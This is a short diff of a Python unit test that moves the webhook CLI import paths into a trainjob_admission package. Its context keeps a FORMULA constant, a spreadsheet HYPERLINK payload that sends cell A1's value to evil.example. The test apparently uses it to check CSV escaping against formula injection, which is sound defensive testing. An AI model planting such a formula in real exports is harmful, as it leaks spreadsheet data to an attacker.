@@ -10,8 +10,8 @@ import subprocess
 import yaml
 
 from tests.unit.test_cli import ROOT, SCRIPT, STATE
-from webhook.cli_io import csv_text
-from webhook.decisionlog import DecisionLog
+from trainjob_admission.webhook.cli.io_habits import csv_text
+from trainjob_admission.webhook.decisionlog import DecisionLog
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
